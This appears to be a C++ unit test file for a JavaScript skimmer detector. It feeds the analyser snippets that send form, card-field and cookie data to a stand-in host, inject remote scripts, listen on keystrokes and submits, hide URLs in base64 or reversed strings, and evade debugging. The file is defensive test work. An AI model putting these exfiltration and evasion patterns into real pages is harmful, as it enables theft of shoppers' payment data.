#include "agent/script/judge/behaviour.h"

#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace skimwatch::script {
namespace {

using testing::Contains;
using testing::IsEmpty;
using testing::Not;

std::vector<std::string> Behaviour(const std::string& script) {
  const absl::StatusOr<SyntaxTree> tree = SyntaxTree::Parse(script, {});
  std::vector<std::string> facts;
  if (!tree.ok()) return facts;
  for (const v1::ScriptFact& fact : FindBehaviour(*tree)) {
    facts.push_back(absl::StrCat(fact.name(), ": ", fact.excerpt()));
  }
  return facts;
}

struct Case {
  const char* script;
  const char* fact;
};

TEST(Behaviour, SeesWaysOutAndWhereTheyLead) {
  const Case cases[] = {
      {"fetch('https://a.example/x')", "destination: a.example by fetch"},
      {"window.fetch('https://a.example/x')", "destination: a.example by fetch"},
      {"var f = window['fe' + 'tch']; f('https://a.example/x')", "destination: a.example by fetch"},
      {"var x = new XMLHttpRequest; x.open('POST', '//a.example/x')",
       "destination: a.example by XMLHttpRequest"},
      {"navigator.sendBeacon('https://a.example', d)", "destination: a.example by sendBeacon"},
      {"new Image().src = 'https://a.example/?' + d", "destination: a.example by img.src"},
      {"var i = new Image; i.src = 'https://a.example/?' + d", "destination: a.example by img.src"},
      {"var s = document.createElement('script'); s.src = 'https://a.example/s.js'",
       "destination: a.example by script.src"},
      {"(function(d,t){var s=d.createElement(t);s.src='//a.example/s.js'})(document,'script')",
       "destination: a.example by script.src"},
      {"var s = document.createElement('script'); s.setAttribute('src', 'https://a.example/s.js')",
       "destination: a.example by script.src"},
      {"var l = document.createElement('link'); l.href = 'https://a.example/?' + d",
       "destination: a.example by link.href"},
      {"document.forms[0].action = 'https://a.example/pay'",
       "destination: a.example by element.action"},
      {"new WebSocket('wss://a.example/s')", "destination: a.example by WebSocket"},
      {"new EventSource('https://a.example/s')", "destination: a.example by EventSource"},
      {"import('https://a.example/m.js')", "destination: a.example by import"},
      {"importScripts('https://a.example/m.js')", "destination: a.example by importScripts"},
      {"$.post('https://a.example/x', d)", "destination: a.example by post"},
      {"$.ajax({ url: 'https://a.example/x', data: d })", "destination: a.example by ajax"},
      {"location = 'https://a.example/?' + d", "destination: a.example by location"},
      {"window.location.href = 'https://a.example/?' + d", "destination: a.example by location"},
      {"document.write('<script src=\"https://a.example/s.js\"></scr' + 'ipt>')",
       "destination: a.example by document.write script"},
      {"el.innerHTML = '<iframe src=https://a.example/f>'",
       "destination: a.example by html iframe"},
      {"new RTCPeerConnection({})", "sink: RTCPeerConnection"},
      {"document.querySelector('form').submit()", "sink: form.submit"},
  };
  for (const Case& c : cases) EXPECT_THAT(Behaviour(c.script), Contains(c.fact)) << c.script;
}

TEST(Behaviour, CallsADestinationHiddenThatDoesNotStandInTheText) {
  const Case cases[] = {
      {"fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUveA=='))", "hidden_destination: a.example by fetch"},
      {"fetch('htt' + 'ps:/' + '/a.example/x')", "hidden_destination: a.example by fetch"},
      {"new Image().src = 'x/elpmaxe.a//:sptth'.split('').reverse().join('') + '?' + d",
       "hidden_destination: a.example by img.src"},
  };
  for (const Case& c : cases) EXPECT_THAT(Behaviour(c.script), Contains(c.fact)) << c.script;
}

TEST(Behaviour, SeesReadsOfCardFieldsAndForms) {
  const Case cases[] = {
      {"document.querySelector('#card-number').value", "card_field_read: #card-number"},
      {"document.getElementById('ccnum').value", "card_field_read: #ccnum"},
      {"$('input[name=\"cvv\"]').val()", "card_field_read: input[name=\"cvv\"]"},
      {"document.querySelectorAll('[autocomplete=\"cc-number\"]')",
       "card_field_read: [autocomplete=\"cc-number\"]"},
      {"document[atob('cXVlcnlTZWxlY3Rvcg==')](atob('I2NhcmQtbnVtYmVy'))",
       "card_field_read: #card-number"},
      {"var d = { cardNumber: n, cvv: c }", "card_field_known: cardnumber"},
      {"document.querySelectorAll('input, select')", "form_read: input, select"},
      {"new FormData(f)", "form_read: FormData"},
      {"document.forms[0]", "form_read: document.forms"},
      {"document.cookie.split(';')", "storage_read: document.cookie"},
      {"localStorage.getItem('k')", "storage_read: web storage"},
  };
  for (const Case& c : cases) EXPECT_THAT(Behaviour(c.script), Contains(c.fact)) << c.script;
}

TEST(Behaviour, SeesListenersOnWhatIsTypedAndSent) {
  const Case cases[] = {
      {"document.addEventListener('submit', f)", "input_listener: submit on document"},
      {"document.querySelector('#card-number').addEventListener('input', f)",
       "input_listener: input on #card-number"},
      {"window['addEvent' + 'Listener']('keydown', f)", "input_listener: keydown on window"},
      {"el.onkeyup = f", "input_listener: keyup"},
      {"$('#payment').on('change.x', f)", "input_listener: change on #payment"},
      {"document.querySelector('.place-order').addEventListener('click', f)",
       "input_listener: click on .place-order"},
  };
  for (const Case& c : cases) EXPECT_THAT(Behaviour(c.script), Contains(c.fact)) << c.script;
  EXPECT_THAT(Behaviour("menu.addEventListener('click', f)"), IsEmpty());
}

TEST(Behaviour, SeesHidingAndEvasion) {
  const Case cases[] = {
      {"if (window.outerWidth - window.innerWidth > 160) return",
       "anti_debugging: size of developer tools"},
      {"setInterval(function () { debugger; }, 100)", "anti_debugging: debugger"},
      {"console.log = function () {}", "anti_debugging: console replaced"},
      {"(function () {}).constructor('debugger')()", "anti_debugging: debugger"},
      {"/google\\.|bing\\./.test(document.referrer)", "evasion: search engines"},
      {"if (navigator.webdriver) return", "evasion: automation"},
      {"eval(atob('YWxlcnQoMSk='))", "code_from_text: eval of decoded text"},
      {"new Function(r.responseText)()", "code_from_text: Function of fetched text"},
      {"setTimeout('a()', 1)", "code_from_text: timer"},
      {"while (true) { switch (o[i++]) { case '0': break; } }",
       "obfuscator: control-flow flattening"},
      {"var o = '3|0|1|2'.split('|')", "obfuscator: order of statements as text"},
  };
  for (const Case& c : cases) EXPECT_THAT(Behaviour(c.script), Contains(c.fact)) << c.script;
}

TEST(Behaviour, LooksIntoTextThatIsRun) {
  EXPECT_THAT(Behaviour("eval(\"fetch('https://a.example/x')\")"),
              Contains("destination: a.example by fetch"));
  // fetch('https://a.example/x')
  EXPECT_THAT(Behaviour("eval(atob('ZmV0Y2goJ2h0dHBzOi8vYS5leGFtcGxlL3gnKQ=='))"),
              Contains("destination: a.example by fetch"));
}

TEST(Behaviour, KnowsLuhnByItsArithmetic) {
  for (const char* script :
       {"function v(n){var s=0,d=false;for(var i=n.length-1;i>=0;i--){var x=parseInt(n[i]);"
        "if(d){x*=2;if(x>9)x-=9}s+=x;d=!d}return s%10===0}",
        "const l=e=>[...e].reverse().reduce((a,c,i)=>a+(i%2?(c*2>9?c*2-9:c*2):+c),0)%10==0",
        "var t=[0,2,4,6,8,1,3,5,7,9]"}) {
    EXPECT_THAT(Behaviour(script), Contains(testing::StartsWith("luhn_structure"))) << script;
  }
  EXPECT_THAT(Behaviour("function f(n){return n*2>9?n-9:n} function g(n){return n%10}"),
              Not(Contains(testing::StartsWith("luhn_structure"))));
}

TEST(Behaviour, SeesFormsThatAreLaidOverThePage) {
  EXPECT_THAT(
      Behaviour("d.innerHTML = '<form><input name=\"card-number\"><input name=cvv></form>'"),
      Contains("overlay: html of form fields"));
}

TEST(Behaviour, IsTheSameOfARebuiltBundle) {
  const std::string plain =
      "function collect(field) {\n  // comment\n  var request = new XMLHttpRequest();\n"
      "  request.open(\"POST\", \"https://a.example/x\");\n  request.send(field.value);\n}\n"
      "document.addEventListener(\"submit\", collect);";
  const std::string minified =
      "function a(b){var c=new XMLHttpRequest;c.open('POST','https://a.example/x'),c.send(b.value)}"
      "document.addEventListener('submit',a);";
  EXPECT_EQ(Behaviour(plain), Behaviour(minified));
}

TEST(Behaviour, ShowsNoCardNumberThatWasHidden) {
  // 4111111111111111, a published test number.
  for (const std::string& fact :
       Behaviour("fetch('https://a.example/?c=' + atob('NDExMTExMTExMTExMTExMQ=='));"
                 "var s = atob('aHR0cHM6Ly9hLmV4YW1wbGUvNDExMTExMTExMTExMTExMQ==')")) {
    EXPECT_THAT(fact, Not(testing::HasSubstr("411111111111")));
  }
}

// What has been put together is in no source, so each excerpt is looked at by itself. The number is
// 5555555555554444, a published test number.
TEST(Behaviour, ShowsNoCardNumberThatWasPutTogether) {
  const std::string padding(120 - std::string("#card-number-").size() - 15, 'x');
  for (const std::string& script : {
           // In hexadecimal.
           std::string(
               "document.querySelector('#card-number-35353535353535'+'353535353534343434')"),
           std::string(
               "document.getElementById('card-number-35353535353535'+'353535353534343434')"),
           std::string("window['card-number-35353535353535'+'353535353534343434']"),
           std::string("$('#pay-35353535353535'+'353535353534343434').on('change', f)"),
           std::string("$('#pay').on('change', '#f-35353535353535'+'353535353534343434', f)"),
           std::string("fetch('https://35353535353535'+'353535353534343434.example/')"),
           std::string("document.createElement('x35353535353535'+'353535353534343434').src='//"
                       "a.example/'+b"),
           std::string("var s = '\\x35353535353535353' + 'card-number'"),
           // In base64, which is in lower case hardly another.
           std::string("document.querySelector('#card-number NTU1NTU1NTU1'+'NTU1NDQ0NA==')"),
           // At the cut.
           "document.querySelector('#card-number-" + padding + "55555555'+'55554444')",
           "document.querySelector('#card-number-" + padding + "5555'+'5555 5555 4444')",
       }) {
    const std::vector<std::string> facts = Behaviour(script);
    EXPECT_THAT(facts, Not(IsEmpty())) << script;
    for (const std::string& fact : facts) {
      EXPECT_THAT(fact, Not(testing::HasSubstr("3535353535353535353535"))) << script;
      EXPECT_THAT(fact, Not(testing::HasSubstr("ntu1ntu1ntu1ntu1"))) << script;
      EXPECT_THAT(fact, Not(testing::HasSubstr("55555555555"))) << script;
      EXPECT_THAT(fact, Not(testing::HasSubstr("5555 5555 "))) << script;
    }
  }
}

TEST(Behaviour, KeepsEveryFactAndSaysWhenThereAreMore) {
  std::string script;
  for (int i = 0; i < 500; ++i) absl::StrAppend(&script, "fetch('https://h", i, ".example/');");
  const absl::StatusOr<SyntaxTree> tree = SyntaxTree::Parse(script, {});
  BehaviourLeftOut left_out;
  // With the sink.
  EXPECT_EQ(FindBehaviour(*tree, {}, &left_out).size(), 501U);
  EXPECT_FALSE(left_out.facts);
  EXPECT_EQ(FindBehaviour(*tree, {.facts_max = 100}, &left_out).size(), 100U);
  EXPECT_TRUE(left_out.facts);
  EXPECT_FALSE(left_out.is_late);
}

TEST(Behaviour, SharesItsBoundsWithTheTextThatIsRun) {
  // Each text may cost as much as a question, and all of them together what a script may.
  std::string script;
  for (int i = 0; i < 60; ++i) {
    absl::StrAppend(&script, "eval('function f(n){for(;;){}} fetch(f(", i, "));');");
  }
  BehaviourLeftOut left_out;
  FindBehaviour(*SyntaxTree::Parse(script, {}), {}, &left_out);
  EXPECT_TRUE(left_out.constants);
  FindBehaviour(*SyntaxTree::Parse("eval('fetch(1) + fetch(2)')", {}), {}, &left_out);
  EXPECT_FALSE(left_out.constants);
  // Deeper than text is looked into.
  std::string deep = "fetch('https://a.example/x')";
  for (int i = 0; i < 5; ++i) {
    deep = absl::StrCat("eval(", "decodeURIComponent('",
                        absl::StrReplaceAll(deep, {{"%", "%25"}, {"'", "%27"}}), "'))");
  }
  FindBehaviour(*SyntaxTree::Parse(deep, {}), {}, &left_out);
  EXPECT_TRUE(left_out.constants);
}

TEST(Behaviour, EndsAtTheDeadline) {
  std::string script;
  for (int i = 0; i < 2000; ++i) absl::StrAppend(&script, "fetch('https://h", i, ".example/');");
  absl::Time now = absl::UnixEpoch();
  const BehaviourLimits limits{.deadline = now + absl::Seconds(5), .now = [&now] {
                                 now += absl::Seconds(1);
                                 return now;
                               }};
  BehaviourLeftOut left_out;
  EXPECT_LT(FindBehaviour(*SyntaxTree::Parse(script, {}), limits, &left_out).size(), 2000U);
  EXPECT_TRUE(left_out.is_late);
}

TEST(Behaviour, ReadsListenersOfManyEventsInLinearTime) {
  std::string events;
  for (int i = 0; i < 3000; ++i) events += "click ";
  const std::string script = absl::StrCat("$('#x').on('", events, "', 's'.repeat(1e5), f)");
  EXPECT_THAT(Behaviour(script), IsEmpty());
}

TEST(GainedBehaviour, CountsHowOften) {
  const auto facts = [](const std::string& script) {
    return FindBehaviour(*SyntaxTree::Parse(script, {}));
  };
  const std::string one = "fetch('/a');";
  const std::string two = "fetch('/a');fetch('/b');";
  EXPECT_THAT(GainedBehaviour(facts(one), facts(one)), IsEmpty());
  EXPECT_THAT(GainedBehaviour(facts(two), facts(one)), IsEmpty());
  ASSERT_EQ(GainedBehaviour(facts(one), facts(two)).size(), 1U);
  EXPECT_EQ(GainedBehaviour(facts(one), facts(two))[0].count(), 2U);
}

}  // namespace
}  // namespace skimwatch::script
